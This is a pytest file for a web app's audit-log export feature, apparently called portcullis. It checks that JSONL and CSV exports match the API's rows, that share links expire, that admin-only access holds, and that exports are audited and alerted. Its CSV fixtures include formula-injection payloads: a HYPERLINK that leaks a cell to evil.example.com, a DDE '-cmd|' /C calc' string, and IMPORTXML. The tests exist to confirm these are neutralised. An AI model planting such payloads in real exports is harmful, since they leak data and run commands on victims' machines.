"""POST /api/v1/audit-exports end to end: a real worker writes JSONL or CSV to storage and
answers with a share link; the rows are the API's rows; CSV formulas are neutralised; the
export is audited and alerted. Also ``portcullis audit export``."""

from __future__ import annotations

import csv
import io
import json
import time
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, update

from config import get_settings
from devstack.stack import LocalStack
from portcullis import secrets_gen
from portcullis.accounts.models import Role
from portcullis.audit.models import Severity
from portcullis.cli import main
from portcullis.db import system_session, tenant_session
from portcullis.jobs.models import Job
from portcullis.links.models import ShareLink
from tests.support.factories import LoggedIn, make_member, make_session, make_tenant, record_event
from tests.support.web import make_client

pytestmark = pytest.mark.usefixtures("worker")

CSV_HEADER = ["id", "occurred_at", "action", "severity", "actor_type", "actor_id",
              "target_type", "target_id", "ip", "user_agent", "details"]
ALERT_FIELDS = {"id", "type", "occurred_at", "tenant_id", "severity", "summary", "actor", "ip",
                "details"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CLIENT_IP = "198.51.100.81"
HYPERLINK = '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click me")'
# (user_agent, actor_id, target_id): every cell a spreadsheet would run, and text that JSON
# must escape. Target types are identifiers, which the table itself checks.
INJECTIONS = [
    (HYPERLINK, "u-plain", "t-plain"),
    ("+SUM(1,2)", "-2+3", "=1+1"),
    ("-cmd|' /C calc'!A0", "@SUM(A1:A2)", "-y"),
    ("@IMPORTXML(A1)", "=NOW()", "@t"),
    ('quote " back\\slash \t tab \u00e9t\u00e9 \u2603 \u2029', 'id "quoted" \u2028', "line\nbreak"),
]


@dataclass
class Seeded:
    tenant_id: uuid.UUID
    since: datetime
    until: datetime
    injected: list[str]  # ids of the events carrying formulas


def _iso(value: datetime) -> str:
    return value.isoformat()


@pytest.fixture(scope="module")
def seeded(stack: LocalStack) -> Seeded:
    tenant = make_tenant("Export Co")
    since = datetime.now(UTC) - timedelta(seconds=1)
    injected = []
    with tenant_session(tenant) as db:
        for n in range(23):
            record_event(
                tenant, "member.invited", Severity.notice, actor=("user", f"actor-{n % 3}"),
                target=("member", f"m{n}"), ip=f"203.0.113.{n + 1}",
                user_agent=f"export-test/{n}", db=db,
                details={"n": n, "email": f"x{n}@example.com", "nested": {"b": 1, "a": [n]}})
        record_event(tenant, "auth.logout", db=db)  # a system actor, no target, ip or agent
        for n, (agent, actor_id, target_id) in enumerate(INJECTIONS):
            event = record_event(
                tenant, "auth.login_failed", Severity.warning, actor=("user", actor_id),
                target=("member", target_id), ip="2001:db8::7", user_agent=agent, db=db,
                details={"note": "=1+1", "n": n, "text": 'a "b" \\ \n \u00e9 \u0001 \u2028 \x85'})
            injected.append(str(event.id))
    until = datetime.now(UTC) + timedelta(milliseconds=1)
    time.sleep(0.01)  # later events (the exports' own) fall after `until`
    return Seeded(tenant, since, until, injected)


def _admin(app: Flask, tenant: uuid.UUID) -> tuple[LoggedIn, FlaskClient]:
    admin = make_session(make_member(tenant, Role.admin))
    return admin, make_client(app, admin, ip=CLIENT_IP)


def _query(client: FlaskClient, since: datetime, until: datetime) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        params = {"since": _iso(since), "until": _iso(until), "limit": 200}
        if cursor:
            params["cursor"] = cursor
        response = client.get("/api/v1/audit-events", query_string=params)
        assert response.status_code == 200, response.get_json()
        body = response.get_json()
        items += body["items"]
        cursor = body["next_cursor"]
        if cursor is None:
            return items


def _request_export(client: FlaskClient, admin: LoggedIn, since: datetime, until: datetime,
                    fmt: str) -> str:
    response = client.post("/api/v1/audit-exports", headers={"X-CSRF-Token": admin.csrf},
                           json={"since": _iso(since), "until": _iso(until), "format": fmt})
    assert response.status_code == 202, response.get_json()
    body = response.get_json()
    assert set(body) == {"job_id"}
    return body["job_id"]


def _wait_job(client: FlaskClient, job_id: str, timeout: float = 60) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:  # polled in the database: no rate limit to spend
        with system_session() as db:
            status = db.scalar(select(Job.status).where(Job.id == uuid.UUID(job_id)))
        if status in ("succeeded", "failed"):
            break
        time.sleep(0.1)
    response = client.get(f"/api/v1/jobs/{job_id}")
    assert response.status_code == 200
    return response.get_json()


def _stored_result(job_id: str) -> Any:
    with system_session() as db:
        job = db.get(Job, uuid.UUID(job_id))
        assert job is not None
        return job.result


def _link(token: str) -> ShareLink:
    with system_session() as db:
        link = db.scalars(select(ShareLink)
                          .where(ShareLink.token_hash == secrets_gen.digest(token))).one()
        db.expunge(link)
        return link


def _export(app: Flask, seeded: Seeded, fmt: str) -> tuple[dict[str, Any], str, FlaskClient]:
    admin, client = _admin(app, seeded.tenant_id)
    job_id = _request_export(client, admin, seeded.since, seeded.until, fmt)
    job = _wait_job(client, job_id)
    assert job["status"] == "succeeded", job
    assert job["progress"] == 100 and job["kind"] == "audit.export"
    assert job["error"] is None and job["finished_at"]
    return job, job_id, client


def _check_url(url: str, job_id: str, tenant_id: uuid.UUID) -> str:
    settings = get_settings()
    assert settings.PUBLIC_BASE_URL == "http://portcullis.test"
    prefix = settings.PUBLIC_BASE_URL + "/s/"
    assert url.startswith(prefix), url
    token = url.removeprefix(prefix)
    assert token and "/" not in token and "?" not in token and len(token) >= 32
    link = _link(token)
    key_name = link.object_key.rsplit("/", 1)[-1]
    for leak in (settings.S3_BUCKET, settings.S3_QUARANTINE_BUCKET, link.object_key, key_name,
                 str(tenant_id), tenant_id.hex, job_id, uuid.UUID(job_id).hex, "exports"):
        assert leak not in url, leak
    # The job row keeps the link sealed: neither the URL nor its token is stored in clear.
    stored = _stored_result(job_id)
    for text in (str(stored), json.dumps(stored)):
        assert token not in text and url not in text and "/s/" not in text
    return token


def _download(client: FlaskClient, url: str) -> Any:
    response = client.get(urlsplit(url).path)
    assert response.status_code == 200, response.data[:300]
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''" in disposition
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    return response


def _by_id(items: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {item["id"]: item for item in items}


def test_jsonl_export_equals_the_query(app: Flask, seeded: Seeded) -> None:
    job, job_id, client = _export(app, seeded, "jsonl")
    token = _check_url(job["result"]["url"], job_id, seeded.tenant_id)

    response = _download(client, job["result"]["url"])
    assert response.headers["Content-Type"].startswith("application/x-ndjson")
    text = response.get_data(as_text=True)
    assert text.endswith("\n")
    # Every line reader agrees on the lines: U+2028, U+2029 and U+0085 are escaped too.
    assert not {"\u2028", "\u2029", "\x85"} & set(text)
    lines = [json.loads(line) for line in text.splitlines()]
    expected = _query(client, seeded.since, seeded.until)
    assert len(expected) == 23 + 1 + len(INJECTIONS)
    assert len(lines) == len(expected) == job["result"]["rows"]
    assert _by_id(lines) == _by_id(expected)
    assert len(_by_id(lines)) == len(lines)
    assert job["result"]["format"] == "jsonl"
    assert int(response.headers["Content-Length"]) == len(response.data)

    # The link is the only way in, and it follows the link's life.
    assert client.get(f"/s/{secrets_gen.new_token()}").status_code == 404
    assert client.get(f"/s/{token[:-2]}").status_code == 404
    with system_session() as db:
        db.execute(update(ShareLink).where(ShareLink.token_hash == secrets_gen.digest(token))
                   .values(expires_at=datetime.now(UTC) - timedelta(seconds=1)))
    gone = client.get(f"/s/{token}")
    assert gone.status_code == 410
    assert gone.get_json()["code"] == "link_expired"


def _expected_csv_row(item: dict[str, Any]) -> list[Any]:
    """The API's item as a CSV row; the details cell is compared as the JSON it holds."""
    target = item["target"] or {}
    cells = [item["id"], item["occurred_at"], item["action"], item["severity"],
             item["actor"]["type"], item["actor"]["id"] or "", target.get("type") or "",
             target.get("id") or "", item["ip"] or "", item["user_agent"] or ""]
    return ["'" + c if c.startswith(FORMULA_STARTS) else c for c in cells] + [item["details"]]


def _parsed(row: list[str]) -> list[Any]:
    return [*row[:-1], json.loads(row[-1])]


def test_csv_export_equals_the_query_and_defuses_formulas(app: Flask, seeded: Seeded) -> None:
    job, job_id, client = _export(app, seeded, "csv")
    _check_url(job["result"]["url"], job_id, seeded.tenant_id)
    response = _download(client, job["result"]["url"])
    assert response.headers["Content-Type"].startswith("text/csv")
    assert ".csv" in response.headers["Content-Disposition"]
    raw = response.get_data(as_text=True)
    assert raw.splitlines()[0] == ",".join(CSV_HEADER)
    header, *rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert header == CSV_HEADER

    expected = _query(client, seeded.since, seeded.until)
    assert len(rows) == len(expected) == job["result"]["rows"]
    assert {r[0]: _parsed(r) for r in rows} == {i["id"]: _expected_csv_row(i) for i in expected}

    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    cells = {r[0]: dict(zip(CSV_HEADER, r, strict=True)) for r in rows}
    first, second, third, fourth, fifth = (cells[i] for i in seeded.injected)
    assert first["user_agent"] == "'" + HYPERLINK
    assert second["user_agent"] == "'+SUM(1,2)" and second["actor_id"] == "'-2+3"
    assert second["target_type"] == "member" and second["target_id"] == "'=1+1"
    assert third["user_agent"] == "'-cmd|' /C calc'!A0" and third["target_id"] == "'-y"
    assert fourth["user_agent"] == "'@IMPORTXML(A1)" and fourth["actor_id"] == "'=NOW()"
    assert json.loads(first["details"])["note"] == "=1+1"
    assert fifth["actor_id"] == INJECTIONS[4][1] and fifth["target_id"] == "line\nbreak"
    assert fifth["user_agent"] == INJECTIONS[4][0]
    untouched = next(c for c in cells.values() if c["user_agent"] == "export-test/0")
    assert untouched["actor_id"] == "actor-0" and untouched["target_id"] == "m0"


def test_export_is_audited_and_alerted(app: Flask, stack: LocalStack, seeded: Seeded) -> None:
    admin, client = _admin(app, seeded.tenant_id)
    job_id = _request_export(client, admin, seeded.since, seeded.until, "jsonl")

    events = client.get("/api/v1/audit-events",
                        query_string={"action": "audit.exported", "limit": 200}).get_json()
    mine = [e for e in events["items"] if e["details"].get("job_id") == job_id]
    assert len(mine) == 1
    event = mine[0]
    assert event["actor"] == {"type": "user", "id": str(admin.member.user_id)}
    assert event["target"] == {"type": "tenant", "id": str(seeded.tenant_id)}
    assert event["severity"] == "warning" and event["ip"] == CLIENT_IP
    assert event["details"]["format"] == "jsonl"

    delivery = stack["siem"].wait_for(
        lambda d: isinstance(d.body, dict) and d.body.get("type") == "alert.audit_export"
        and d.body.get("details", {}).get("job_id") == job_id, timeout=30)
    assert delivery.verified and delivery.status == 204
    body = delivery.body
    assert set(body) == ALERT_FIELDS
    assert body["id"] == delivery.id
    assert body["tenant_id"] == str(seeded.tenant_id)
    assert body["actor"] == {"type": "user", "id": str(admin.member.user_id)}
    assert body["ip"] == CLIENT_IP and body["severity"] == "warning" and body["summary"]
    assert datetime.fromisoformat(body["occurred_at"].replace("Z", "+00:00")).tzinfo
    assert _wait_job(client, job_id)["status"] == "succeeded"


@pytest.mark.parametrize("body", [
    {"since": "2024-01-01T00:00:00", "until": "2024-02-01T00:00:00Z", "format": "csv"},
    {"since": "2024-02-01T00:00:00Z", "until": "2024-01-01T00:00:00Z", "format": "csv"},
    {"since": "2024-01-01T00:00:00Z", "until": "2024-01-01T00:00:00Z", "format": "csv"},
    {"since": "2020-01-01T00:00:00Z", "until": "2024-01-01T00:00:00Z", "format": "jsonl"},
    {"since": "2024-01-01T00:00:00Z", "until": "2024-02-01T00:00:00Z", "format": "xlsx"},
    {"since": "2024-01-01T00:00:00Z", "until": "2024-02-01T00:00:00Z", "format": "csv",
     "bucket": "mine"},
])
def test_invalid_export_requests_are_400(app: Flask, seeded: Seeded,
                                         body: dict[str, str]) -> None:
    admin, client = _admin(app, seeded.tenant_id)
    response = client.post("/api/v1/audit-exports", headers={"X-CSRF-Token": admin.csrf},
                           json=body)
    assert response.status_code == 400, response.get_json()


@pytest.mark.parametrize("role", [Role.manager, Role.staff, Role.viewonly])
def test_only_admins_export(app: Flask, seeded: Seeded, role: Role) -> None:
    who = make_session(make_member(seeded.tenant_id, role))
    response = make_client(app, who, ip=CLIENT_IP).post(
        "/api/v1/audit-exports", headers={"X-CSRF-Token": who.csrf},
        json={"since": _iso(seeded.since), "until": _iso(seeded.until), "format": "csv"})
    assert response.status_code == 403 and response.get_json()["code"] == "forbidden"


def test_cli_export_writes_the_same_rows(app: Flask, stack: LocalStack, seeded: Seeded,
                                         tmp_path: Path) -> None:
    output = tmp_path / "audit.csv"
    started = datetime.now(UTC)
    result = CliRunner().invoke(main, [
        "audit", "export", "--tenant", str(seeded.tenant_id), "--since", "2020-01-01",
        "--until", "2100-01-01", "--format", "csv", "--output", str(output)])
    assert result.exit_code == 0, result.output
    assert str(output) in result.output

    with output.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == CSV_HEADER
    by_id = {r[0]: r for r in rows}
    assert len(by_id) == len(rows)

    _, client = _admin(app, seeded.tenant_id)
    api = _query(client, datetime(2020, 1, 1, tzinfo=UTC), datetime(2100, 1, 1, tzinfo=UTC))
    api_by_id = {i["id"]: i for i in api}
    # The command audits itself before it writes, so its own event is in the file.
    exported = [i for i in api if i["action"] == "audit.exported"
                and i["actor"]["type"] == "operator"
                and datetime.fromisoformat(i["occurred_at"]) >= started]
    assert len(exported) == 1 and exported[0]["id"] in by_id
    assert exported[0]["details"]["via"] == "cli"
    cut = datetime.fromisoformat(exported[0]["occurred_at"])

    # Every row of the file is the API's row; the only API rows the file may lack are the
    # worker's own alert bookkeeping recorded after the command took its snapshot.
    assert set(by_id) <= set(api_by_id)
    for event_id, row in by_id.items():
        assert _parsed(row) == _expected_csv_row(api_by_id[event_id])
    for event_id in set(api_by_id) - set(by_id):
        late = api_by_id[event_id]
        assert late["action"].startswith("alert."), late
        assert datetime.fromisoformat(late["occurred_at"]) > cut
    assert set(seeded.injected) <= set(by_id)

    delivery = stack["siem"].wait_for(
        lambda d: isinstance(d.body, dict) and d.body.get("type") == "alert.audit_export"
        and d.body.get("tenant_id") == str(seeded.tenant_id)
        and d.body.get("details", {}).get("via") == "cli", timeout=30)
    assert delivery.verified
